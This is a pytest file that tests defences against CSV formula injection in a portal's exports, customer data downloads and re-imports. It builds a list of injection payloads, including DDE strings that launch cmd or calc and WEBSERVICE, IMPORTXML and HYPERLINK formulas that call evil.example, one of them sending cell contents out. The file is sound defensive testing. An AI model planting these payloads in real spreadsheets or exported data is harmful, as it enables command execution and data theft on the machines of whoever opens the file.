"""Exports in which every text would like to be a formula (BATTERY C5)."""

import csv
import io
import json
import re
import zipfile

import pytest

from portal.customers.accounts import Account
from portal.exchange.importing_files import Shape, TableFile
from tests import runs
from tests.battery import crawling, planting

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
ENDS = (
    "1+1", "cmd|'/c calc'!A0", 'HYPERLINK("http://evil.example","Pay")', 'WEBSERVICE("http://evil.example/"&A1)',
    'IMPORTXML("http://evil.example","//a")', "SUM(A1:A9)*cmd|' /C calc'!A0", "A1", '"quoted"', "1;2,3\t4", "1\n=2",
    "DDE(\"cmd\";\"/C calc\";\"x\")", "2-1+cmd|'/C notepad'!'A1'", "@SUM(1)", "=1", "'=1", "%0A-3", "𝟙",
    "+639171234567",
)  # fmt: skip
PAYLOADS = [start + end for start in STARTS for end in ENDS] + [f"'{start}1" for start in STARTS]
NUMBER = re.compile(r"[+-]?[\d.,]+(?:[eE][+-]?\d+)?")

pytestmark = [pytest.mark.row("C5"), pytest.mark.one_database]


def is_formula(cell):
    """Whether a spreadsheet would compute this cell: by its first letter, plain numbers apart."""
    return cell.startswith(STARTS) and not NUMBER.fullmatch(cell)


@pytest.fixture
def exports(app, world):
    """exports(n): {address: text} of all CSV answers, with the n-th handful of payloads in the texts of the shop."""
    records = crawling.records_of(app, world)
    clients = {name: app.test_client().sign_in(getattr(world, name)) for name in ("carol", "ada")}
    ways = [(name, way) for name in clients for _, way in crawling.addresses(app, world, records, name, feed="csv")]
    step = len(planting.free_texts())

    def read(n):
        planting.plant(lambda number, most: PAYLOADS[(number + n * step) % len(PAYLOADS)][:most])
        for name, way in ways:
            yield way, clients[name].get(way), clients[name]

    return read


def test_no_cell_of_any_export_is_a_formula_and_each_reads_back_as_it_was(exports, tmp_path, figures):
    formulas, changed, cells, guarded, files = [], [], 0, 0, set()
    for n in range(3):
        for way, answer, client in exports(n):
            if answer.status_code != 200:
                continue
            rows = list(csv.reader(io.StringIO(answer.text.removeprefix("\ufeff"), newline="")))
            found = [cell for row in rows for cell in row]
            formulas += [(way, cell) for cell in found if is_formula(cell)]
            cells, files = cells + len(found), files | {way}
            guarded += sum(cell.startswith("'") for cell in found)
            changed += read_back(way, answer, client, tmp_path)
    figures(exports=len(files), payloads=len(PAYLOADS), cells=cells, guarded=guarded)
    figures(formula_cells=len(formulas), cells_read_back_otherwise=len(changed))
    assert formulas == []
    assert changed == []
    assert len(PAYLOADS) >= 200
    assert guarded > 200


def read_back(way, answer, client, folder):
    """The cells that our own reader of files finds otherwise than the JSON of the same list has them."""
    path = folder / "export.csv"
    path.write_bytes(answer.data)
    with TableFile(path, Shape("utf-8-sig")) as table:
        read = [dict(zip(table.header, record.cells, strict=False)) for record in table.records]
    wanted = json.loads(client.get(way.replace(".csv", ".json")).text)["rows"]
    pairs = [
        (way, name, text, row[name]) for cells, row in zip(read, wanted, strict=True) for name, text in cells.items()
    ]
    return [pair for pair in pairs if isinstance(pair[3], str) and pair[2] != pair[3]]


def test_what_a_customer_takes_along_holds_no_formula(app, world, figures):
    crawling.records_of(app, world)
    planting.plant(lambda number, most: PAYLOADS[number % len(PAYLOADS)][:most])
    client = app.test_client().sign_in(world.carol)
    answer = client.send("/account/data", "/account/data/take-along", kind="csv")
    with zipfile.ZipFile(io.BytesIO(answer.data)) as archive:
        texts = [archive.read(name).decode("utf-8-sig") for name in archive.namelist()]
    found = [cell for text in texts for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    formulas = [cell for cell in found if is_formula(cell)]
    figures(tables=len(texts), cells=len(found), formula_cells=len(formulas))
    assert formulas == []
    assert sum(cell.startswith("'") for cell in found) > 20


def test_an_export_that_is_brought_in_again_changes_nothing(app, world, figures):
    names = [name for name in PAYLOADS if "\n" not in name and "\t" not in name and "\r" not in name][:200]
    text = "ID,Name\n" + "".join(f'{n},"{name.replace(chr(34), chr(34) * 2)}"\n' for n, name in enumerate(names, 100))
    runs.brought(world.ada, text)
    client = app.test_client().sign_in(world.ada)
    export = client.get("/staff/accounts.csv?columns=number,name").text
    before = {row.id: row.name for row in Account.select()}
    again = runs.compared(world.ada, export, source="suki")
    figures(accounts_brought_in_again=again.read, found_the_same=again.same)
    assert len(before) > 130
    assert again.read == again.same == len(before)
    assert runs.outcomes(again) == {}
    assert {row.id: row.name for row in Account.select()} == before
